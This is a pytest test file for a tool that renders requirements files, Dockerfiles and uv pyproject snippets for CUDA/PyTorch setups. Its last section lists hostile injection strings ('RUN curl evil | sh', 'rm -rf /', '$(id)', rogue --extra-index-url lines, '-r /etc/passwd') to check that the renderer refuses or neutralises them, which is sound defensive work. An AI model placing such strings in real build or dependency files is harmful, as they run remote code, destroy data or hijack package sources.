"""Rendered files: golden texts, what the formats' own tools say, and what must never be in them."""

from __future__ import annotations

import importlib
import json
import re
import subprocess
import sys
import sysconfig
import tomllib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import replace
from functools import cache
from itertools import product
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from packaging.requirements import Requirement
from uv import find_uv_bin

from cudaenv import __version__
from cudaenv.model.images import IMAGE
from cudaenv.model.machine import Fact, Gpu, Machine, Platform
from cudaenv.model.plan import Environment, How, Plan
from cudaenv.model.versions import ComputeCapability
from cudaenv.render.container_files import Surroundings
from cudaenv.render.files import render_files
from cudaenv.render.values import comment, toml_string
from tests.conftest import GOLDEN
from tests.support.index import pytorch_like_world, tool_environment
from tests.support.planning import ROOT, cases, machine, plan_for

Golden = Callable[[str, str], None]

TEMPLATES = {path.name: path.read_text("utf-8") for path in (ROOT / "templates").iterdir()}
SNIPPET = "pyproject.cudaenv.toml"
PLANNED = [name for name, plan in cases().items() if plan.environments]


SOURCES = (("pytorch", "https://download.pytorch.org/whl/", "https://download.pytorch.org/whl/"),)


def rendered(plan: Plan, spec_name: str = "cudaenv.toml", default_index: str = "") -> dict[str, str]:
    return render_files(
        plan,
        templates=TEMPLATES,
        spec_name=spec_name,
        default_index=default_index,
        around=Surroundings(sources=SOURCES),
    )


def plans() -> Iterator[tuple[str, Plan]]:
    """Plans for a broad product of machines; those that are refused are left out."""
    gpus = ["GTX 1080 Ti", "V100", "T4", "A100", "RTX 4090", "H100", "RTX 5090", "Tesla K80", "none", ""]
    drivers = ["", "450.80.02", "525.60.13", "570.86.10", "595.71.05"]
    family = (("torchvision", "torchaudio", "numpy<3 ; python_version > '3.4'"), ())
    for gpu, driver, platform in product(gpus, drivers, ("linux-64", "linux-aarch64", "win-64")):
        names = {"none": [], "": None}.get(gpu, [gpu])
        for packages in family if driver in {"", "570.86.10"} else family[1:]:
            plan = plan_for(machine("lab", names, driver, platform=platform), packages=packages)
            if plan.environments:
                yield f"{gpu or 'any GPU'}, {driver or 'any driver'}, {platform}, {packages}", plan


@cache
def broad() -> tuple[tuple[str, Plan, dict[str, str]], ...]:
    both = plan_for(
        machine("pc", ["RTX 4090"], platform="win-64"),
        machine("arm", ["GH200"], platform="linux-aarch64"),
        machine("old", ["P100"], "470.82.01"),
        machine("new", ["B200"], "580.95.05"),
        packages=["torchvision", "numpy"],
    )
    everything = [*plans(), *((name, cases()[name]) for name in PLANNED), ("a fleet", both)]
    return tuple((label, plan, rendered(plan)) for label, plan in everything)


def of_kind(kind: str) -> Iterator[tuple[str, str]]:
    for label, _, files in broad():
        yield from ((f"{label}: {name}", text) for name, text in files.items() if name.startswith(kind))


def test_the_product_is_broad() -> None:
    assert len(broad()) > 100
    variants = {environment.variant for _, plan, _ in broad() for environment in plan.environments}
    assert variants >= {"cu118", "cu126", "cu128", "cu130", "cu132", "cpu"}


# --- golden files


@pytest.mark.parametrize("name", PLANNED)
def test_golden(name: str, golden: Golden) -> None:
    files = rendered(cases()[name])
    for file, text in files.items():
        golden(f"{name}/{file}", text.replace(f"cudaenv {__version__} ", "cudaenv VERSION "))
    kept = {path.name for path in (GOLDEN / name).iterdir()} - {"plan.txt", "explain.txt"}
    assert kept == set(files)


def test_the_file_names() -> None:
    assert set(rendered(cases()["v100"])) == {"requirements.txt", "Dockerfile", ".dockerignore", SNIPPET}
    assert set(rendered(cases()["windows"])) == {"requirements.txt", SNIPPET}
    assert set(rendered(cases()["gtx-1080-ti-and-rtx-5090"])) == {
        *("requirements.cu126.txt", "requirements.cu132.txt", "Dockerfile.cu126", "Dockerfile.cu132"),
        ".dockerignore",
        SNIPPET,
    }


def test_a_refusal_has_no_files() -> None:
    with pytest.raises(ValueError, match="without environments"):
        rendered(cases()["no-plan"])


# --- laws of every file


def test_what_is_never_rendered() -> None:
    never = re.compile(r"--(extra-)?index-url|LD_LIBRARY_PATH|nvidia/cuda|\{\{|\{%|find-links")
    offline = "pip install --no-index --find-links wheelhouse -r "
    for kind in ("requirements", "Dockerfile", SNIPPET, "environment", "virtual-packages"):
        for label, text in of_kind(kind):
            assert not never.search(text.replace(offline, "")), label
            on_conda = "Into the conda environment" in text
            assert text.count(offline) == (kind == "requirements" and not on_conda), label


def test_every_file_says_what_made_it() -> None:
    for label, _, files in broad():
        for name, text in files.items():
            lines = text.splitlines()
            assert lines[0] == f"# Made by cudaenv {__version__} from cudaenv.toml.", (label, name)
            assert lines[1] == "# Do not edit: change cudaenv.toml and run `cudaenv render`."
            assert text.endswith("\n"), (label, name)
            assert not re.search(r"\r|[ \t]$|\n\n\n|\n\n\Z", text, re.MULTILINE), (label, name)


def test_the_same_plan_has_the_same_bytes() -> None:
    for _, plan, files in broad()[:20]:
        assert rendered(plan) == files
        assert list(rendered(plan)) == list(files)


# --- requirements.txt


def pins(text: str) -> list[str]:
    return [line for line in text.splitlines() if line and not line.startswith("#")]


def test_requirements_are_read_line_by_line() -> None:
    for label, plan, files in broad():
        for environment in plan.environments:
            name = plan.file_name(environment, "requirements.txt")
            wheels = [package for package in environment.packages if package.how is How.WHEEL]
            expected = [package.requirement for package in wheels] + list(environment.rest)
            assert (name in files) == (environment.provider == "pip" or bool(expected)), label
            found = [Requirement(line) for line in pins(files.get(name, ""))]
            assert [str(item) for item in found] == [str(Requirement(item)) for item in expected], label


def test_requirements_name_the_index_of_each_package() -> None:
    _, _, files = next(item for item in broad() if item[0] == "gtx-1080-ti-and-rtx-5090")
    old, new = files["requirements.cu126.txt"], files["requirements.cu132.txt"]
    assert "# from https://download.pytorch.org/whl/cu126\ntorch==2.14.1+cu126\n" in old
    assert "pip install --no-deps --require-hashes -r requirements.cu126.lock\n" in old
    assert "uv pip sync pylock.cu126.toml\n" in old
    assert "Not from this file: torch, torchaudio must come from https://download" in old
    assert "# from the default index (PyPI), which carries the cu132 build\ntorch==2.15.0\n" in new
    assert "Not from this file" not in new


def test_fetching_for_another_machine_names_each_older_tag_that_its_glibc_runs() -> None:
    """Pip takes `manylinux_2_31` for itself alone, and bash writes the others out."""
    text = rendered(cases()["v100"])["requirements.txt"]
    (options,) = [line for line in text.splitlines() if "--python-version" in line]
    echo = ["bash", "-c", f"echo {options.removeprefix('#')}"]
    said = subprocess.run(echo, capture_output=True, text=True, check=True).stdout.split()
    numbered = [f"--platform=manylinux_2_{minor}_x86_64" for minor in range(5, 32)]
    others = ["--platform=manylinux2014_x86_64", "--platform=linux_x86_64"]
    assert said == ["--python-version", "3.14", *numbered, *others]
    windows = rendered(cases()["windows"])["requirements.txt"]
    assert "--python-version 3.14 --platform=win_amd64\n" in windows


def test_requirements_tell_only_of_their_own_machines() -> None:
    files = rendered(cases()["gtx-1080-ti-and-rtx-5090"])
    assert "the driver of `old` is not known" in files["requirements.cu126.txt"]
    assert "`old` is not known" not in files["requirements.cu132.txt"]
    assert "`new` is not known" not in files["requirements.cu126.txt"]


def test_many_machines_are_counted() -> None:
    fleet = [machine(f"node-{number}", ["A100"], f"580.95.{number}") for number in range(300)]
    text = rendered(plan_for(*fleet))["requirements.txt"]
    assert "for node-0, node-1, node-2, node-3, node-4 and 295 more" in text
    assert len(text.splitlines()) < 65


# --- Dockerfile


def commands(text: str) -> list[tuple[str, tuple[str, ...], tuple[str, ...]]]:
    """What Docker's own parser sees."""
    parser: Any = importlib.import_module("dockerfile")
    return [(item.cmd, tuple(item.flags), tuple(item.value)) for item in parser.parse_string(text)]


def test_docker_reads_every_dockerfile() -> None:
    for label, text in of_kind("Dockerfile"):
        found = commands(text)
        flags = {
            (name, flag) for name, given, _ in found for flag in given if not flag.startswith("--mount=")
        }
        assert all(name in {"COPY", "HEALTHCHECK"} for name, _ in flags), label
        assert {flag for name, flag in flags if name == "COPY"} <= {"--from=build", "--from=installer"}, label
        assert not re.search(r"<<|^# *syntax *=|--link", text, re.MULTILINE), label
        assert [value for name, _, value in found if name == "USER"] == [("1000",)], label
        assert found[-1] == ("CMD", (), ("python",)), label


def test_nothing_that_builds_stays_in_an_image_to_run_in() -> None:
    for label, text in of_kind("Dockerfile"):
        found = commands(text)
        (*_, last) = [place for place, (name, _, _) in enumerate(found) if name == "FROM"]
        assert found[last][2] == ("${BASE_IMAGE}",), label
        copied = [value for name, _, value in found[last:] if name == "COPY"]
        assert copied == [("/opt/env", "/opt/env")], label
        runs = [value[0] for name, _, value in found[last:] if name == "RUN"]
        assert not re.search(r"pip|apt|venv", " ".join(runs)), label
        locks = [value[0] for name, _, value in found[:last] if name == "COPY" and value[0].endswith(".lock")]
        assert locks, label
        assert "conda" in locks[0] or "--require-hashes" in text, label


def test_a_container_tells_its_health_by_importing_torch() -> None:
    for label, text in of_kind("Dockerfile"):
        (health,) = [value for name, _, value in commands(text) if name == "HEALTHCHECK"]
        assert health == ("CMD", "python", "-c", "import torch"), label


def test_dockerfiles_are_for_linux_and_their_base_is_a_plain_system_or_python() -> None:
    for label, plan, files in broad():
        for environment in plan.environments:
            name = plan.file_name(environment, "Dockerfile")
            assert (name in files) == environment.platform.is_linux, label
            if name in files:
                base = "debian:1[23]" if environment.conda else f"python:{re.escape(str(environment.python))}"
                assert re.search(rf"\nARG BASE_IMAGE={base}-slim(-trixie|-bookworm)?\n", files[name]), label
                gpu = "--gpus all" in files[name], "NVIDIA_VISIBLE_DEVICES=all" in files[name]
                assert gpu == (environment.cuda is not None,) * 2, label


def test_hadolint_is_content(tmp_path: Path) -> None:
    texts = {*dict(of_kind("Dockerfile")).values()}
    assert len(texts) > 10
    paths = [tmp_path / f"{number}.Dockerfile" for number in range(len(texts))]
    for path, text in zip(paths, sorted(texts), strict=True):
        path.write_text(text)
    assert hadolint(*paths) == []


def test_hadolint_would_complain(tmp_path: Path) -> None:
    text = next(text for _, text in of_kind("Dockerfile"))
    bad = text.replace("FROM ${BASE_IMAGE}", "FROM python").replace("USER 1000", "USER root")
    (tmp_path / "Dockerfile").write_text(bad)
    assert {item["code"] for item in hadolint(tmp_path / "Dockerfile")} >= {"DL3002", "DL3006"}


def hadolint(*paths: Path) -> list[dict[str, Any]]:
    program = Path(sysconfig.get_path("scripts")) / "hadolint"
    done = subprocess.run(
        # An empty configuration of its own, so that none of this machine's rules are left out.
        [program, "--config", write_config(paths[0].parent), "--format", "json", "--no-fail", *paths],
        capture_output=True,
        text=True,
        timeout=60,
        check=True,
    )
    found: list[dict[str, Any]] = json.loads(done.stdout)
    return found


def write_config(folder: Path) -> Path:
    path = folder / "hadolint.yaml"
    path.write_text("ignored: []\n")
    return path


# --- the snippet for uv


def pasted(snippet: str) -> str:
    """A pyproject.toml with the snippet as its reader would paste it."""
    table = [line[6:] for line in snippet.splitlines() if line.startswith("#     ")]
    return "\n".join(["[project]", 'name = "demo"', 'version = "1"', *table, snippet])


def test_the_snippet_is_toml_and_explicit() -> None:
    for label, text in of_kind(SNIPPET):
        uv = tomllib.loads(pasted(text))["tool"]["uv"]
        indexes = {item["name"]: item for item in uv.get("index", [])}
        assert all(item["explicit"] is True for item in indexes.values()), label
        sources = [
            source
            for item in uv.get("sources", {}).values()
            for source in (item if isinstance(item, list) else [item])
        ]
        assert {source["index"] for source in sources} == set(indexes), label


def test_the_snippet_of_one_environment() -> None:
    project = tomllib.loads(pasted(rendered(cases()["v100"])[SNIPPET]))
    assert project["project"]["requires-python"] == "==3.14.*"
    assert project["project"]["dependencies"] == [
        "torch==2.14.1+cu126",
        "torchvision==0.29.1+cu126",
        "diffusers[torch]>=0.30",
    ]
    assert project["tool"]["uv"] == {
        "environments": ["sys_platform == 'linux' and platform_machine == 'x86_64'"],
        "sources": {"torch": {"index": "pytorch-cu126"}, "torchvision": {"index": "pytorch-cu126"}},
        "index": [
            {"name": "pytorch-cu126", "url": "https://download.pytorch.org/whl/cu126", "explicit": True}
        ],
    }


def test_the_snippet_of_several_platforms_has_markers() -> None:
    plan = plan_for(
        machine("pc", ["RTX 4090"], platform="win-64"),
        machine("l", ["RTX 4090"], platform="linux-64"),
        packages=["numpy ; python_version > '3.4' or os_name == 'nt'"],
    )
    project = tomllib.loads(pasted(rendered(plan)[SNIPPET]))
    windows, linux = (project["project"]["optional-dependencies"][item.name] for item in plan.environments)
    assert windows[0].endswith('; sys_platform == "win32" and platform_machine == "AMD64"')
    assert linux[1] == (
        'numpy; (python_version > "3.4" or os_name == "nt") and sys_platform == "linux" '
        'and platform_machine == "x86_64"'
    )
    assert len(project["tool"]["uv"]["environments"]) == 2


def test_different_pythons_are_told_apart() -> None:
    plan = cases()["gtx-1080-ti-and-rtx-5090"]
    first, second = plan.environments
    older = replace(first, python=type(first.python)(3, 11))
    project = tomllib.loads(pasted(rendered(replace(plan, environments=(older, second)))[SNIPPET]))
    assert project["project"]["requires-python"] == ">=3.11,<3.15"
    extras = project["project"]["optional-dependencies"]
    assert extras["cu126"][0] == 'torch==2.14.1+cu126; python_version == "3.11"'
    assert extras["cu132"][0] == 'torch==2.15.0; python_version == "3.14"'


def test_another_default_index() -> None:
    files = rendered(cases()["rtx-4090"], default_index="https://mirror.example/simple")
    index = {"name": "default", "url": "https://mirror.example/simple", "default": True}
    assert tomllib.loads(files[SNIPPET])["tool"]["uv"]["index"] == [index]
    assert "# from https://mirror.example/simple, which carries" in files["requirements.txt"]


@pytest.mark.skipif(not (3, 11) <= sys.version_info < (3, 14), reason="the little world has no such wheels")
@pytest.mark.parametrize("gpus", [["V100"], ["GTX 1080 Ti", "RTX 5090"]])
def test_uv_locks_what_was_pasted(tmp_path: Path, gpus: list[str]) -> None:
    plan = plan_for(
        *(machine(f"m{number}", [gpu], platform="linux-64") for number, gpu in enumerate(gpus)),
        packages=["torchvision", "numpy"],
        python=f"{sys.version_info.major}.{sys.version_info.minor}",
    )
    world = pytorch_like_world(tmp_path / "world")
    text = pasted(rendered(plan)[SNIPPET]).replace("https://download.pytorch.org/whl", f"{world.url}/whl")
    (tmp_path / "pyproject.toml").write_text(text)
    done = subprocess.run(
        [find_uv_bin(), "lock"],
        env=tool_environment(tmp_path / "tools", f"{world.url}/simple", offline=True),
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    locked = tomllib.loads((tmp_path / "uv.lock").read_text())["package"]
    found = {(item["name"], item["version"]): item["source"].get("registry", "") for item in locked}
    for environment in plan.environments:
        for package in environment.packages:
            index = package.index_url.rpartition("/")[2]
            origin = found[package.name, str(package.version)]
            assert origin.endswith(f"whl/{index}" if index else "/simple"), package
    assert all(origin.endswith("/simple") for (name, _), origin in found.items() if name == "filelock")


# --- texts that others wrote

HOSTILE = [
    "lab\nRUN curl evil | sh",
    "lab\r\n--extra-index-url https://evil",
    "lab\u2028evil==1",
    "lab\x85evil==1",
    "lab\x1b[2J",
    "lab\\",
    'x"; rm -rf /; "',
    "{{ 7 * 7 }}",
    "{% include 'x' %}",
    "]\n[tool.evil]",
    "syntax=evil/frontend",
    "escape=`",
    "hadolint ignore=DL3002",
    "# x",
    "`x` $(id) ${HOME}",
    "\u202eevil",
]


def hostile_plan(text: str) -> Plan:
    gpu = Gpu(name=text, capability=ComputeCapability(7, 0))
    lab = Machine(name=text, gpus=(gpu,), platform=Fact(Platform.LINUX_64, "test"))
    return plan_for(lab, packages=["torchvision"])


def without_comments(files: Mapping[str, str]) -> dict[str, list[str]]:
    """What programs read, split as liberally as the most liberal of them does."""
    return {
        name: [line for line in text.splitlines() if not line.startswith("#")] for name, text in files.items()
    }


@cache
def harmless() -> dict[str, str]:
    return rendered(hostile_plan("lab"))


def check_hostile(text: str) -> None:
    files = rendered(hostile_plan(text), spec_name=text)
    assert without_comments(files) == without_comments(harmless())
    assert commands(files["Dockerfile"]) == commands(harmless()["Dockerfile"])
    assert all(line.isprintable() for content in files.values() for line in content.split("\n"))
    # A parser directive counts only before the first other comment.
    assert files["Dockerfile"].startswith("# Made by cudaenv ")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_names_do_not_escape(text: str, tmp_path: Path) -> None:
    check_hostile(text)
    (tmp_path / "Dockerfile").write_text(rendered(hostile_plan(text))["Dockerfile"])
    assert hadolint(tmp_path / "Dockerfile") == []


@given(st.text(min_size=1, max_size=60))
def test_no_name_escapes(text: str) -> None:
    check_hostile(text)


def with_environment(**changes: Any) -> Plan:
    plan = cases()["v100"]
    return replace(plan, environments=(replace(plan.environments[0], **changes),))


def with_torch(**changes: Any) -> Plan:
    environment: Environment = cases()["v100"].environments[0]
    return with_environment(packages=(replace(environment.torch, **changes),))


@pytest.mark.parametrize(
    "plan",
    [
        with_environment(name="cu126\nRUN evil"),
        with_environment(name="../cu126"),
        with_environment(base_image=""),
        with_environment(base_image="python:3.14-slim\nRUN evil"),
        with_environment(base_image="python:3.14-slim AS x"),
        with_environment(base_image="--platform=x python"),
        with_environment(python="3.14 && evil"),
        with_environment(rest=("numpy\n--extra-index-url https://evil",)),
        with_environment(rest=("numpy ; platform_release == 'x\ny'",)),
        with_environment(rest=("--index-url https://evil",)),
        with_environment(rest=("evil @ https://evil/evil-1-py3-none-any.whl",)),
        with_environment(rest=("-r /etc/passwd",)),
        with_torch(index="pytorch]\n"),
        with_torch(index_url="https://x/\n[tool.evil]"),
        with_torch(extras=("a]\nevil",)),
        with_torch(variant="cu126\nevil"),
    ],
)
def test_values_that_must_not_stand_in_a_file(plan: Plan) -> None:
    with pytest.raises(ValueError, match=r"not a|Expected|expected|Invalid"):
        rendered(plan)


@pytest.mark.parametrize(
    "image",
    [
        "python:3.14-slim",
        "registry.example:5000/team/python:3.14-slim",
        "localhost:5000/python",
        f"python@sha256:{'0' * 64}",
        f"mirror.example/library/python:3.14-slim-trixie@sha256:{'a' * 64}",
    ],
)
def test_image_references(image: str) -> None:
    assert IMAGE.fullmatch(image)


@given(st.text())
def test_comment_is_one_line(text: str) -> None:
    assert len(comment(text).splitlines()) == 1
    assert comment(text).startswith("#")


@given(st.text(st.characters(exclude_categories=["C", "Z"])))
def test_toml_string_is_read_back(text: str) -> None:
    assert tomllib.loads(f"x = {toml_string(text)}") == {"x": text}


@pytest.mark.parametrize("text", ["a\nb", "a\x7f", "a\x00", "\ud800"])
def test_toml_string_refuses_what_is_not_printable(text: str) -> None:
    with pytest.raises(ValueError, match="not a text"):
        toml_string(text)
